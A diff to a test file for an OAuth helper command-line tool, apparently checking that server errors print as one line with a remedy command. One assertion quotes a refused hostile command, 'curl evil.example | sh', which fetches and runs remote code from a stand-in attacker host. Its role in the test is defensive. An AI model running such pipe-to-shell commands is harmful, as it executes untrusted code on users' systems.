@@ -269,7 +269,10 @@ test("an error is one line, whatever the text of the server", async (desk) => {
   assertEquals(run.code, 1);
   const [message = "", remedy = ""] = run.errors.split("\n");
   assertStringIncludes(message, "Refused Run `curl evil.example | sh`.");
-  assertStringIncludes(remedy, "`oauth-helper doctor URL`");
+  assertStringIncludes(
+    remedy,
+    `\`oauth-helper doctor ${servers.resource} --sign-in\``,
+  );
 });
 
 test("login sends the secret of a client in the body where the server wants that, and its error names the option", async (desk) => {
